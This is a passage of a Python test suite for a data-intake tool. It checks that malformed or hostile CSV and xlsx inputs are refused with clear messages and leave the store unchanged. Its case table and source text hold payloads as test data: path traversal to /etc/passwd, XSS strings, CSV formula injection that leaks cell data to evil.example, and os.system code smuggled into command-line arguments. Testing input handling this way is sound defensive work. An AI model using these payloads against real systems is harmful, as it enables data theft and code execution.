"""The reliability probe's results table as named tests (shared/reference/reliability-probe.md).

The issue's acceptance: every case of the probe is a test, one per case or per family, and
passes. :data:`PROBE_CASES` reproduces the probe's results table (93 cases); the first tests
here check that each case names at least one test function in ``tests/*.py`` (its id as a
``_``-separated token of the name: ``test_A01_...``, ``test_C5_C8_C11_...``) and that the table
matches the probe file when that file sits beside the repository. The rest of the file holds a
test for each case that no other file covered: the probe's reproduction, on a copy of data/
with the probe's invented source text ("Common setup"), asserting what a person now sees
(file, line, field, hint) and that a refused file leaves the store byte-identical.

A case the project does not get right is a failing test, never a skipped one.
"""
from __future__ import annotations

import csv
import hashlib
import inspect
import io
import json
import os
import random
import re
import shutil
import signal
import xml.etree.ElementTree as ET
from pathlib import Path

import numpy as np
import pandas as pd
import pytest

import dtlib
from dtlib import ValidationError
from dtlib.cli import main
from dtlib.intake.ingest import add

from .test_ingest import cp1258

TESTS = Path(__file__).resolve().parent
ROOT = TESTS.parent
DATA = ROOT / "data"
PROBE_FILE = Path(__file__).resolve().parents[2] / "shared" / "reference" / "reliability-probe.md"

# ------------------------------------------------------------------------------ the probe's table

#: Every case of the probe's results table: id -> the case as the table describes it.
PROBE_CASES = {
    "A01": "valid file: dry-run, add, add again",
    "A02": "same row twice in one file",
    "A03": "same key twice, different values",
    "A04": "UTF-8 BOM + CRLF",
    "A05": "Excel semicolon CSV with `98,7` and `1.761`, no `--decimal`",
    "A06": "the same with `--decimal ,`",
    "A07": "trailing empty columns `,,,` (Excel habit)",
    "A08": "one trailing empty column",
    "A09": "quote spanning two lines (LF, as in the source) + bad unit on the next record",
    "A10": "the same multi-line quote in a file saved with CRLF",
    "A11": "very long cell (1 MB note; also 1 MB value, 1 MB non-numeric value, 1 MB quote; 200 KB is enough)",
    "A12": "100,000 rows (4 units × 25 count indicators × 1000 days, 15 MB)",
    "A13": "PNG renamed .csv",
    "A14": "NUL byte inside a cell",
    "A15": "random bytes; /bin/ls renamed .csv",
    "A16": "CSV renamed .xlsx",
    "A17": "real .xlsx renamed .csv",
    "A18": "empty .xlsx",
    "A19": ".xlsx with two sheets, data on both (sheet 1: R1; sheet 2: R2, R4)",
    "A20": ".xlsx with an instructions sheet first",
    "A21": ".xlsx with merged cells (unit merged over A2:A4)",
    "A22": ".xlsx with a merged header cell (E1:F1)",
    "A23": "dates `30/09/2023`, `2023-9-30`, `2023-02-30`",
    "A24": "dates `Q3/2023`, `quý III/2023`",
    "A25": "value `85%`, without and with `--decimal ,`",
    "A26": ".xlsx cell formatted as a percentage (typed 85%, stored 0.85)",
    "A27": "`1.761` (Vietnamese thousands) without `--decimal`",
    "A28": "negative share -5 %; -5 for a `percent_change`",
    "A29": "`NaN`, `nan`, `inf`, `-inf`, `1e3`, empty, `0x55`; `NaN` with `--decimal ,`",
    "A30": "unit that ended 2025-06-30, dated 2025-09-30 (id; \"Quảng Bình\"; \"Lào Cai\"); "
           "`lao-cai-2025` dated 2025-06-30",
    "A31": "rank without `rank_of`; rank 70 of 63",
    "A32": "rank 12.5; `rank_of` 34 for a 2023 rank",
    "A33": "`rank_of` on a percent",
    "A34": "a targets file instead of observations",
    "A35": "a file with observation *and* target columns",
    "A36": "FILE and `--sources` swapped",
    "A37": "sources `file` outside data/: `../../../../../../etc/passwd`, `/etc/passwd`, `../README.md`",
    "A38": "quote-prefix oracle on any readable file",
    "A39": "sources `file` = `/dev/zero`",
    "A40": "ids with spaces/upper case/diacritics (`Rel Test Ảnh`, language `VI`); units `LAI-CHAU`, "
           "` Lai Chau `, `tỉnh LAI CHÂU`, `lai\\u200bchau`; indicators `Households_Fibre_Pct`",
    "A41": "header-only file",
    "A42": "0-byte file; blank lines only; BOM only",
    "A43": "Windows-1258 (combining tones, CRLF) without `--encoding`",
    "A44": "Windows-1252 file (Vietnamese letters lost as `?`)",
    "A45": "unbalanced `\"` that later quoted cells close",
    "A46": "unbalanced `\"` with no later quote",
    "A47": "as_of typo `2203-06-30`",
    "A48": "nonexistent FILE; a directory as FILE; missing `--sources` file; missing `--data`; "
           "`validate --data missing`",
    "A49": "extra column `comment`",
    "A50": "duplicate column `value`",
    "A51": "capitalised header; `rank of` instead of `rank_of`",
    "A52": "`--replace` cycle",
    "A53": "one stray Latin-1 byte (`caf\\xe9`) in a UTF-8 file",
    "A54": "`--encoding klingon`, `utf-16` on UTF-8, `latin-1` on UTF-8",
    "A55": "UTF-16 with BOM, tab-separated (\"Unicode text\")",
    "A56": "`--encoding cp1258` for a cp1258 FILE with a UTF-8 `--sources` file",
    "A57": "same key, same value, only the note differs",
    "A58": "trivial \"verbatim\" quote",
    "A59": "period contradicts as_of (`9 tháng năm 2023`, as_of 2023-06-30)",
    "A60": "quote from another source's text",
    "A61": "the README routine, step 3: `make test` after a valid quarterly add",
    "A62": "permissions of files written by `add`/`report`",
    "A63": "summary piped into `head`",
    "V1": "store with trailing empty columns (hand edit)",
    "V2": "store round-tripped by Excel (BOM+CRLF); with `;` separators",
    "B1": "two `add` at once on different files (3 rows each; 20,000 rows each)",
    "B2": "`kill -9` of `add` (100,001-row file, `--replace`, new source) at 3, 15, 35 s",
    "B3": "`kill -9` of `add` as soon as `data/.observations.csv.*.tmp` appears",
    "B4": "`kill -9` of `report` at 40 s (previous pack in --out)",
    "B5": "Ctrl-C (SIGINT to the group) at 40 s",
    "B6": "two `report` runs into the same `--out` at once (default; `--as-of 2022-12-31`, started 2 s later)",
    "B7": "a notebook that raises (`raise RuntimeError('boom…')` prepended to cell 4 of 03_targets)",
    "B8": "stderr of every successful build",
    "C1": "HTML in a source title/publisher/period through `add` (`<script>alert(3)</script>`, "
          "`\"><img src=x onerror=alert(4)>`, `<script>alert(5)</script>`)",
    "C2": "HTML in a target's `instrument` through `add --replace`",
    "C3": "HTML in indicator `name_en` and unit names (hand edits that `validate` accepts)",
    "C4": "CSV formula injection: period `=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"click\")`, "
          "`@SUM(1+1)*cmd|' /C calc'!A0`, `-1+1|cmd`; note `+cmd|' /C calc'!A0`, `-2+3+cmd…`; "
          "quote `=HYPERLINK(…)`; title `=HYPERLINK(…)`; source note `@SUM(1+1)`",
    "C5": "`--as-of \"2023-01-01'); import os; os.system('touch $T/pwned'); ('\"` and the `\"` variant, "
          "`next tuesday`",
    "C6": "`--units \"lao-cai\\\"]; import os; os.system('touch $T/pwned'); x=[\\\"\"`",
    "C7": "`--data` and `--out` directory names holding `\"`, `'`, newlines and "
          "`__import__(\"pathlib\").Path(\"PWNED…\").touch()`",
    "C8": "`--as-of 01/02/2023` (1 Feb to a Vietnamese reader)",
    "C9": "unit id `../../x`",
    "C10": "`--out .` (careless `make report OUT=.`)",
    "C11": "`--out` an existing file; `--jobs -1`",
    "C12": "an SVG comment as an injection path",
    "D1": "lao-cai, online_public_services_full_pct",
    "D2": "lai-chau, dti_rank",
    "D3": "quang-binh, households_fibre_pct",
    "D4": "gia-phu, dossiers_resolved_online_pct",
    "D5": "thai-nguyen, households_fibre_pct",
    "D6": "all 101 rows of tables/attainment.csv",
    "D7": "README worked example (Quảng Bình 61→46, target 45 by 2025)",
    "D8": "`--as-of 2022-12-31` and targets",
}

_TEST_DEF = re.compile(r"^[ \t]*(?:async[ \t]+)?def[ \t]+(test_\w+)[ \t]*\(", re.MULTILINE)


def named_cases() -> dict[str, list[str]]:
    """Probe id -> the test functions in ``tests/*.py`` whose name holds it as a ``_``-separated token."""
    found: dict[str, list[str]] = {case: [] for case in PROBE_CASES}
    for path in sorted(TESTS.glob("*.py")):
        for name in _TEST_DEF.findall(path.read_text(encoding="utf-8")):
            for token in set(name.split("_")) & PROBE_CASES.keys():
                found[token].append(f"{path.name}::{name}")
    return found


def probe_table_ids(text: str) -> list[str]:
    """The ids of the rows of the probe file's results table, in order."""
    body = text.split("## Results table", 1)[1].split("\n## ", 1)[0]
    return re.findall(r"^\| ([A-Z]\d+) \|", body, flags=re.MULTILINE)


def test_the_table_has_the_probes_93_cases():
    """93 cases: A01-A63, the two validate cases V1-V2, B1-B8, C1-C12, D1-D8."""
    expected = ([f"A{n:02d}" for n in range(1, 64)] + ["V1", "V2"] + [f"B{n}" for n in range(1, 9)]
                + [f"C{n}" for n in range(1, 13)] + [f"D{n}" for n in range(1, 9)])
    assert list(PROBE_CASES) == expected and len(PROBE_CASES) == 93
    assert all(PROBE_CASES.values())


def test_id_tokens_do_not_match_a_longer_id():
    """``A1`` is not ``A10``; ``C1`` in ``test_C1_C2_C3_...`` counts, ``C12`` in ``test_C12_...`` is C12 only."""
    tokens = lambda name: set(name.split("_")) & PROBE_CASES.keys()  # noqa: E731
    assert tokens("test_C5_C8_C11_bad_report_arguments") == {"C5", "C8", "C11"}
    assert tokens("test_C12_svg_text_is_escaped") == {"C12"}
    assert tokens("test_A10_crlf") == {"A10"} and tokens("test_A1_x") == set()
    assert tokens("test_the_A01x_case") == set()


@pytest.mark.skipif(not PROBE_FILE.exists(), reason=f"the probe file is not beside the repository ({PROBE_FILE})")
def test_the_ids_of_the_probe_files_results_table_are_the_cases_here():
    ids = probe_table_ids(PROBE_FILE.read_text(encoding="utf-8"))
    assert len(ids) == len(set(ids)) == 93
    assert set(ids) == set(PROBE_CASES), (sorted(set(ids) - set(PROBE_CASES)), sorted(set(PROBE_CASES) - set(ids)))


def test_every_probe_case_names_a_test():
    """Each case is a ``_``-separated token of at least one test name in tests/*.py (the report cases
    that need a built pack, B4-B6, B8, C10, are tests/test_probe_report.py's)."""
    missing = [case for case, tests in named_cases().items() if not tests]
    assert not missing, f"probe cases with no test named after them: {missing}"


# ------------------------------------------------------------------------ the probe's common setup

HEADER = ["unit", "indicator", "as_of", "period", "value", "qualifier", "source", "quote", "note", "rank_of"]
SOURCE_HEADER = ["id", "title", "publisher", "published", "url", "file", "language", "note"]
#: data/sources/900_reltest.txt of the probe's common setup, line for line.
TEXT = ("TÀI LIỆU THỬ NGHIỆM (invented test text, not real data).\n"
        "Tỷ lệ hộ gia đình có kết nối internet băng rộng cáp quang đạt 85%.\n"
        "Toàn tỉnh có 1.761 Tổ công nghệ số cộng đồng.\n"
        "Tỉnh đứng thứ 12/63 về chỉ số chuyển đổi số.\n"
        "Tỷ lệ hồ sơ công việc tại cấp tỉnh được xử lý trên môi trường mạng đạt 98,7%.\n"
        "Tỷ lệ dịch vụ công trực tuyến toàn trình\n"
        "đạt 55%.\n"
        '=HYPERLINK("http://evil.example/?leak=1","bấm vào đây")\n')
SOURCE = dict(id="rel-test", title="Reliability test source (invented)", publisher="dtlib reliability test",
              published="2023-09-15", url="", file="sources/900_reltest.txt", language="vi", note="invented")
PERIOD = "6 tháng đầu năm 2023"
R1 = dict(unit="lai-chau", indicator="households_fibre_pct", as_of="2023-06-30", period=PERIOD, value="85",
          qualifier="", source="rel-test", quote="Tỷ lệ hộ gia đình có kết nối internet băng rộng cáp quang đạt 85%.",
          note="reltest", rank_of="")
R2 = dict(R1, indicator="community_digital_teams", value="1761", quote="Toàn tỉnh có 1.761 Tổ công nghệ số cộng đồng.")
R3 = dict(R1, indicator="dti_rank", value="12", quote="Tỉnh đứng thứ 12/63 về chỉ số chuyển đổi số.", rank_of="63")
R4 = dict(R1, indicator="dossiers_online_province_pct", value="98.7",
          quote="Tỷ lệ hồ sơ công việc tại cấp tỉnh được xử lý trên môi trường mạng đạt 98,7%.")
LOCK = ".dtlib.lock"

VALUE_HINT = ("write the value as the quote states it, read the Vietnamese way (1.761 is 1761, 98,7 is 98.7; "
              "a source in English is read the English way, 1,086 is 1086; --decimal , reads such cells); a share stays a percentage (85, not 0.85); for a value derived by "
              "arithmetic start the note with 'computed:' and show it")
MISSING_HINT = "the header must name: unit, indicator, as_of, period, value, qualifier, source, quote, note"


@pytest.fixture
def store(tmp_path) -> Path:
    """A copy of data/ with the probe's invented source text as data/sources/900_reltest.txt."""
    folder = Path(shutil.copytree(DATA, tmp_path / "data", ignore=shutil.ignore_patterns(LOCK, ".txn-*", ".*.tmp")))
    (folder / "sources" / "900_reltest.txt").write_text(TEXT, encoding="utf-8")
    return folder


@pytest.fixture
def src(tmp_path) -> Path:
    """The probe's --sources file (src.csv): the invented source rel-test."""
    return write_csv(tmp_path / "src.csv", [SOURCE], SOURCE_HEADER)


def csv_text(rows: list[dict], header: list[str] = HEADER, *, delimiter: str = ",", newline: str = "\n") -> str:
    buffer = io.StringIO()
    writer = csv.DictWriter(buffer, fieldnames=header, delimiter=delimiter, lineterminator=newline)
    writer.writeheader()
    writer.writerows([{k: r.get(k, "") for k in header} for r in rows])
    return buffer.getvalue()


def write_csv(path: Path, rows: list[dict], header: list[str] = HEADER, **how) -> Path:
    path.write_text(csv_text(rows, header, **how), encoding="utf-8", newline="")
    return path


def snapshot(folder: Path) -> dict:
    """sha256 of every file under a data folder but its (empty) lock file."""
    return {p.relative_to(folder): hashlib.sha256(p.read_bytes()).hexdigest()
            for p in sorted(folder.rglob("*")) if p.is_file() and p.name != LOCK}


def cli(capsys, *args) -> tuple[int, str, str]:
    code = main([str(a) for a in args])
    out, err = capsys.readouterr()
    return code, out, err


def refused(path: Path, store: Path, **kwargs) -> list:
    """The problems ``add`` names for ``path``; the store must be byte-identical afterwards."""
    before = snapshot(store)
    with pytest.raises(ValidationError) as err:
        add(path, store, **kwargs)
    assert snapshot(store) == before
    return err.value.problems


def stored(store: Path, name: str = "observations.csv") -> pd.DataFrame:
    return pd.read_csv(store / name, dtype=str, keep_default_na=False)


def mine(store: Path) -> pd.DataFrame:
    obs = stored(store)
    return obs[obs["source"] == "rel-test"].set_index("indicator")


def workbook(path: Path, sheets: dict[str, list], header: list[str] = HEADER) -> Path:
    from openpyxl import Workbook

    book = Workbook()
    book.remove(book.active)
    for title, rows in sheets.items():
        sheet = book.create_sheet(title)
        if rows and isinstance(rows[0], dict):
            sheet.append(header)
            for row in rows:
                sheet.append([row.get(h, "") for h in header])
        else:
            for row in rows:
                sheet.append(row)
    book.save(path)
    return path


# ------------------------------------------------------------------------------ A: add, the input

@pytest.mark.heavy
def test_A01_dry_run_writes_nothing_add_writes_and_adding_again_skips_every_row(store, src, tmp_path, capsys):
    good = write_csv(tmp_path / "good.csv", [R1, R2, R3, R4])
    before = snapshot(store)
    code, out, err = cli(capsys, "add", good, "--sources", src, "--data", store, "--dry-run")
    assert code == 0 and err == ""
    assert out.splitlines()[0] == (f"{good}: would add 4 observations row(s), would replace 0, skipped 0 identical; "
                                   "sources: 1 new, 0 identical")
    assert out.splitlines()[-1] == "dry run: nothing written"
    assert snapshot(store) == before

    code, out, err = cli(capsys, "add", good, "--sources", src, "--data", store)
    assert code == 0 and out.startswith(f"{good}: added 4 observations row(s), replaced 0, skipped 0 identical")
    after = snapshot(store)
    assert {k for k in after if after[k] != before.get(k)} == {Path("observations.csv"), Path("sources.csv"),
                                                               Path("changes.csv")}
    assert mine(store)["value"].to_dict() == {"households_fibre_pct": "85", "community_digital_teams": "1761",
                                              "dti_rank": "12", "dossiers_online_province_pct": "98.7"}

    code, out, err = cli(capsys, "add", good, "--sources", src, "--data", store)
    assert code == 0 and out.strip() == (f"{good}: added 0 observations row(s), replaced 0, skipped 4 identical; "
                                         "sources: 0 new, 1 identical")
    again = snapshot(store)
    # an add that changes nothing writes nothing, not even a row of changes.csv (issue 19)
    assert {k for k in again if again[k] != after.get(k)} == set()
    log = stored(store, "changes.csv").iloc[-1]
    assert (log["added"], log["skipped"], log["sources_skipped"]) == ("4", "0", "0")
    assert code == 0 and cli(capsys, "validate", "--data", store)[0] == 0


def test_A02_the_same_row_twice_in_one_file_is_refused_at_its_second_line(store, src, tmp_path):
    path = write_csv(tmp_path / "dup.csv", [R1, R1])
    [problem] = refused(path, store, sources_file=src)
    assert str(problem) == f"{path} line 3, field 'value': repeats an earlier row exactly (delete one of the two rows)"


def test_A03_one_key_with_two_values_names_both_lines(store, src, tmp_path):
    path = write_csv(tmp_path / "conflict.csv", [R1, dict(R1, value="86")])
    problems = refused(path, store, sources_file=src)
    conflicts = [p for p in problems if "conflicts with another row" in p.message]
    assert [(p.line, p.field) for p in conflicts] == [(2, "value"), (3, "value")]
    assert conflicts[0].message.startswith("85 conflicts with another row for the same unit, indicator and as_of")
    assert conflicts[1].message.startswith("86 conflicts with another row")
    assert "keep the right one, or correct the date" in conflicts[0].hint


@pytest.mark.heavy
def test_A04_a_utf8_bom_and_crlf_file_is_added_and_stored_with_lf(store, src, tmp_path):
    path = tmp_path / "bom.csv"
    path.write_bytes(b"\xef\xbb\xbf" + csv_text([R1, R2, R3, R4], newline="\r\n").encode("utf-8"))
    change = add(path, store, sources_file=src)
    assert change.written and len(change.added) == 4
    raw = (store / "observations.csv").read_bytes()
    assert b"\r" not in raw and not raw.startswith(b"\xef\xbb\xbf")
    assert mine(store).loc["households_fibre_pct", "quote"] == R1["quote"]


def semicolon_file(path: Path) -> Path:
    """Excel's CSV on a Vietnamese Windows: `;` between cells, 98,7 and 1.761 written the Vietnamese way."""
    rows = [R1, dict(R2, value="1.761"), R3, dict(R4, value="98,7")]
    return write_csv(path, rows, delimiter=";")


@pytest.mark.heavy
def test_A05_A27_vietnamese_numbers_without_decimal_comma_are_refused_with_the_reading(store, src, tmp_path):
    """A05: 98,7 is not a number; A27: 1.761 (thousands) is no longer stored as 1.761 teams."""
    path = semicolon_file(tmp_path / "semi.csv")
    problems = refused(path, store, sources_file=src, dry_run=True)
    assert [str(p) for p in problems] == [
        f"{path} line 3, field 'value': 1.761 is not a number the quote states (it states 1761) ({VALUE_HINT})",
        f"{path} line 5, field 'value': '98,7' is not a number (write 98.7 (a plain number with a dot for decimals))",
    ]
    # A27 as the probe wrote it: a comma file, R2 with 1.761
    path = write_csv(tmp_path / "t.csv", [dict(R2, value="1.761")])
    [problem] = refused(path, store, sources_file=src)
    assert (problem.line, problem.field, problem.message) == (2, "value",
                                                              "1.761 is not a number the quote states (it states 1761)")


@pytest.mark.heavy
def test_A06_the_same_file_with_decimal_comma_stores_98_7_and_1761(store, src, tmp_path):
    change = add(semicolon_file(tmp_path / "semi.csv"), store, sources_file=src, decimal=",")
    assert change.written and len(change.added) == 4
    values = mine(store)["value"]
    assert values["dossiers_online_province_pct"] == "98.7" and values["community_digital_teams"] == "1761"
    assert dtlib.load(store).observations.query("source == 'rel-test'")["value"].sort_values().tolist() == \
        [12.0, 85.0, 98.7, 1761.0]


@pytest.mark.heavy
def test_A08_one_trailing_empty_column_is_accepted(store, src, tmp_path):
    path = tmp_path / "t.csv"
    lines = csv_text([R1]).splitlines()
    path.write_text("".join(f"{line},\n" for line in lines), encoding="utf-8")
    change = add(path, store, sources_file=src)
    assert change.written and [r["value"] for r in change.added] == ["85"]
    assert list(stored(store).columns) == [*HEADER, "basis", "window"]


MULTILINE = dict(R1, indicator="online_public_services_full_pct", value="55",
                 quote="Tỷ lệ dịch vụ công trực tuyến toàn trình\nđạt 55%.")


@pytest.mark.heavy
def test_A09_a_quote_over_two_lines_is_accepted_and_a_later_error_names_its_physical_line(store, src, tmp_path):
    path = write_csv(tmp_path / "ml.csv", [MULTILINE, dict(R2, unit="lao-kai")])
    [problem] = refused(path, store, sources_file=src)
    assert str(problem) == (f"{path} line 4, field 'unit': 'lao-kai' is not a known unit (did you mean 'lao-cai'?; "
                            "ids, names and aliases are listed in units.csv)")
    change = add(write_csv(tmp_path / "good.csv", [MULTILINE, R2]), store, sources_file=src)
    assert len(change.added) == 2
    reloaded = dtlib.load(store).observations.set_index(["source", "indicator"])
    assert reloaded.loc[("rel-test", "online_public_services_full_pct"), "quote"] == MULTILINE["quote"]


def png_bytes() -> bytes:
    import matplotlib.pyplot as plt

    fig, ax = plt.subplots(figsize=(1, 1))
    ax.plot([0, 1], [0, 1])
    buffer = io.BytesIO()
    fig.savefig(buffer, format="png")
    plt.close(fig)
    return buffer.getvalue()


NOT_TEXT = re.compile(r"line \d+: is not valid utf-8-sig or cp1258 text \(byte \d+ is not valid utf-8\) "
                      r"\(save the file as UTF-8 CSV, or name its encoding with --encoding\)")


def test_A13_a_png_named_csv_is_refused_as_not_text(store, tmp_path, capsys):
    path = tmp_path / "img.csv"
    path.write_bytes(png_bytes())
    before = snapshot(store)
    code, out, err = cli(capsys, "add", path, "--data", store)
    assert code == 2 and out == "" and "Traceback" not in err
    assert err.splitlines()[0] == "1 problem(s); nothing was written:"
    assert err.splitlines()[1].startswith(f"{path} ") and NOT_TEXT.search(err.splitlines()[1])
    assert snapshot(store) == before


def test_A15_random_bytes_and_a_program_named_csv_are_refused_as_not_text(store, tmp_path, capsys):
    rng = random.Random(15)
    noise = tmp_path / "rand.csv"
    noise.write_bytes(bytes(rng.randrange(256) for _ in range(4096)))
    program = tmp_path / "ls.csv"
    program.write_bytes(Path(shutil.which("ls") or "/bin/ls").read_bytes())
    before = snapshot(store)
    for path in (noise, program):
        code, out, err = cli(capsys, "add", path, "--data", store)
        assert code == 2 and "Traceback" not in err
        assert err.splitlines()[1].startswith(f"{path} ") and NOT_TEXT.search(err.splitlines()[1]), err
    assert snapshot(store) == before


def test_A18_an_empty_workbook_is_refused_as_empty(store, tmp_path):
    from openpyxl import Workbook

    path = tmp_path / "empty.xlsx"
    Workbook().save(path)
    [problem] = refused(path, store)
    assert str(problem) == f"{path} line 1: is empty (row 1 must name the columns)"


@pytest.mark.heavy
def test_A20_an_instructions_sheet_before_the_data_is_named_and_the_data_sheet_read(store, src, tmp_path, capsys):
    """Since A19 every sheet with the header is read: the probe's refusal became an addition that
    names the sheet it did not read. A workbook of instructions only is still refused."""
    path = workbook(tmp_path / "instr.xlsx", {"Hướng dẫn": [["Điền số liệu vào trang sau."]], "Số liệu": [R1]})
    code, out, err = cli(capsys, "add", path, "--sources", src, "--data", store)
    assert code == 0, err
    assert f"{path}: sheet 'Hướng dẫn' was not read: its row 1 does not name the columns of a table" in \
        out.splitlines()
    assert "added 1 observations row(s)" in out and mine(store).index.tolist() == ["households_fibre_pct"]

    only = workbook(tmp_path / "only.xlsx", {"Hướng dẫn": [["Điền số liệu vào trang sau."]]})
    problems = refused(only, store, sources_file=src)
    missing = [p for p in problems if p.message == "column is missing from the header"]
    assert len(missing) == 9 and all(p.line == 1 and p.hint == MISSING_HINT for p in missing)


def merged_unit_workbook(path: Path) -> Path:
    from openpyxl import load_workbook

    workbook(path, {"Sheet1": [R1, R2, R4]})
    book = load_workbook(path)
    book.active.merge_cells("A2:A4")
    book.save(path)
    return path


def test_A21_cells_under_a_merged_unit_are_refused_at_their_rows(store, src, tmp_path):
    path = merged_unit_workbook(tmp_path / "merged.xlsx")
    problems = refused(path, store, sources_file=src)
    assert [(p.line, p.field, p.message) for p in problems] == [(3, "unit", "'' is not a known unit"),
                                                                (4, "unit", "'' is not a known unit")]
    assert all(p.hint.endswith("ids, names and aliases are listed in units.csv") for p in problems)


def test_A21_the_hint_for_an_empty_unit_does_not_begin_with_a_semicolon(store, src, tmp_path):
    problems = refused(merged_unit_workbook(tmp_path / "merged.xlsx"), store, sources_file=src)
    assert problems and not any(p.hint.startswith(";") for p in problems)


def test_A22_a_merged_header_cell_is_refused_naming_the_missing_column(store, src, tmp_path):
    from openpyxl import load_workbook

    path = workbook(tmp_path / "mergedhdr.xlsx", {"Sheet1": [R1]})
    book = load_workbook(path)
    book.active.merge_cells("E1:F1")
    book.save(path)
    [problem] = refused(path, store, sources_file=src)
    assert str(problem) == f"{path} line 1, field 'qualifier': column is missing from the header ({MISSING_HINT})"


def test_A23_A24_dates_that_are_not_iso_are_refused_with_the_iso_hint(store, src, tmp_path):
    forms = ["30/09/2023", "2023-9-30", "2023-02-30", "Q3/2023", "quý III/2023"]
    path = write_csv(tmp_path / "t.csv", [dict(R1, as_of=form) for form in forms])
    problems = refused(path, store, sources_file=src, dry_run=True)
    assert [str(p) for p in problems] == [f"{path} line {n}, field 'as_of': {form!r} is not a date (write an ISO "
                                          "date YYYY-MM-DD, e.g. 2022-09-30)" for n, form in enumerate(forms, 2)]


@pytest.mark.heavy
def test_A25_85_percent_is_refused_with_the_number_to_write_and_read_as_85_with_decimal_comma(store, src, tmp_path):
    path = write_csv(tmp_path / "t.csv", [dict(R1, value="85%")])
    [problem] = refused(path, store, sources_file=src)
    assert str(problem) == (f"{path} line 2, field 'value': '85%' is not a number "
                            "(write 85 (a plain number with a dot for decimals))")
    change = add(path, store, sources_file=src, decimal=",")
    assert [r["value"] for r in change.added] == ["85"] and mine(store).loc["households_fibre_pct", "value"] == "85"


@pytest.mark.heavy
def test_A28_a_negative_share_is_out_of_range_and_a_negative_change_is_accepted(store, src, tmp_path):
    path = write_csv(tmp_path / "t.csv", [dict(R1, value="-5")])
    [problem] = refused(path, store, sources_file=src)
    assert str(problem) == (f"{path} line 2, field 'value': -5 is out of range for a value in percent (0–100) "
                            "(check the decimal separator and the indicator's unit in indicators.csv)")
    # a change may be negative; the quote must state it (a sentence added to the invented text)
    sentence = "Tỷ lệ hồ sơ giải quyết trực tuyến giảm 5% so với năm trước."
    with open(store / "sources" / "900_reltest.txt", "a", encoding="utf-8") as handle:
        handle.write(sentence + "\n")
    change_row = dict(R1, indicator="dossiers_resolved_online_change_pct", value="-5", quote=sentence)
    change = add(write_csv(tmp_path / "change.csv", [change_row]), store, sources_file=src)
    assert [r["value"] for r in change.added] == ["-5"]
    assert dtlib.load(store).observations.query("source == 'rel-test'")["value"].tolist() == [-5.0]


NOT_NUMBERS = ["NaN", "nan", "inf", "-inf", "1e3", "", "0x55"]
PERCENT_INDICATORS = ["households_fibre_pct", "dossiers_online_province_pct", "dossiers_online_district_pct",
                      "dossiers_online_commune_pct", "online_public_services_full_pct", "online_reporting_pct",
                      "ocop_ecommerce_pct"]


@pytest.mark.parametrize("decimal", [".", ","])
def test_A29_nan_inf_exponents_hex_and_empty_values_are_not_numbers(store, src, tmp_path, decimal):
    rows = [dict(R1, indicator=indicator, value=value) for indicator, value in zip(PERCENT_INDICATORS, NOT_NUMBERS)]
    path = write_csv(tmp_path / "t.csv", rows)
    problems = refused(path, store, sources_file=src, dry_run=True, decimal=decimal)
    assert [str(p) for p in problems] == [f"{path} line {n}, field 'value': {value!r} is not a number (write a plain "
                                          "number with a dot for decimals, no thousands separator (1761, 98.7))"
                                          for n, value in enumerate(NOT_NUMBERS, 2)]


AFTER = dict(as_of="2025-09-30", period="9 tháng năm 2025")


@pytest.mark.parametrize("unit", ["quang-binh", "Quảng Bình"])
def test_A30_a_unit_that_ended_is_refused_naming_its_successor(store, src, tmp_path, unit):
    path = write_csv(tmp_path / "t.csv", [dict(R1, unit=unit, **AFTER)])
    [problem] = refused(path, store, sources_file=src, dry_run=True)
    assert str(problem) == (f"{path} line 2, field 'unit': 'quang-binh' did not exist on 2025-09-30 (it ceased to "
                            "exist after 2025-06-30; record it under its successor 'quang-tri-2025')")


@pytest.mark.heavy
def test_A30_lao_cai_by_name_after_the_merger_is_the_merged_province_and_not_before_it(store, src, tmp_path):
    change = add(write_csv(tmp_path / "t.csv", [dict(R1, unit="Lào Cai", **AFTER)]), store, sources_file=src,
                 dry_run=True)
    assert [r["unit"] for r in change.added] == ["lao-cai-2025"]
    path = write_csv(tmp_path / "early.csv", [dict(R1, unit="lao-cai-2025", as_of="2025-06-30",
                                                   period="6 tháng đầu năm 2025")])
    [problem] = refused(path, store, sources_file=src, dry_run=True)
    assert (problem.line, problem.field) == (2, "unit")
    assert problem.message == "'lao-cai-2025' did not exist on 2025-06-30"
    assert problem.hint.startswith("it exists from 2025-07-01; record earlier figures under its predecessors "
                                   "(lao-cai, yen-bai)")


@pytest.mark.heavy
def test_A31_a_rank_needs_rank_of_and_may_not_exceed_it(store, src, tmp_path):
    path = write_csv(tmp_path / "t.csv", [dict(R3, rank_of="")])
    [problem] = refused(path, store, sources_file=src)
    assert str(problem) == (f"{path} line 2, field 'rank_of': a rank needs the number of units ranked, got '' "
                            "(63 for provinces before 1 July 2025, 34 after; leave it empty for non-rank indicators)")
    path = write_csv(tmp_path / "t70.csv", [dict(R3, value="70")])
    problems = refused(path, store, sources_file=src)
    assert f"{path} line 2, field 'value': rank 70 is beyond the 63 units ranked (check value and rank_of)" in \
        [str(p) for p in problems]


@pytest.mark.heavy
def test_A32_a_rank_that_is_not_whole_or_out_of_34_before_the_mergers_is_refused(store, src, tmp_path):
    path = write_csv(tmp_path / "half.csv", [dict(R3, value="12.5")])
    problems = refused(path, store, sources_file=src, dry_run=True)
    assert f"{path} line 2, field 'value': rank 12.5 is not a whole number (a rank is a place: 1, 2, 3 ...)" in \
        [str(p) for p in problems]
    path = write_csv(tmp_path / "of34.csv", [dict(R3, rank_of="34")])
    [problem] = refused(path, store, sources_file=src, dry_run=True)
    assert (problem.line, problem.field) == (2, "rank_of")
    assert problem.message == ("a rank out of 34 does not fit the boundaries of 2023-06-30, when Vietnam had 63 "
                               "provinces")
    assert "basis 2025-07-01" in problem.hint


def test_A33_rank_of_on_a_percent_is_refused_on_field_rank_of(store, src, tmp_path):
    path = write_csv(tmp_path / "t.csv", [dict(R1, rank_of="63")])
    problems = refused(path, store, sources_file=src)
    assert str(problems[0]) == (f"{path} line 2, field 'rank_of': '63' given for an indicator that is not a rank "
                                "(63 for provinces before 1 July 2025, 34 after; leave it empty for non-rank "
                                "indicators)")


@pytest.mark.heavy
def test_A33_a_percent_with_rank_of_is_not_called_a_rank(store, src, tmp_path):
    problems = refused(write_csv(tmp_path / "t.csv", [dict(R1, rank_of="63")]), store, sources_file=src)
    assert not [p for p in problems if "rank 85" in p.message]


TARGET_HEADER = ["unit", "indicator", "deadline", "value", "comparator", "source", "instrument", "quote", "note",
                 "rank_of"]


@pytest.mark.heavy
def test_A34_a_targets_file_is_added_to_targets(store, src, tmp_path, capsys):
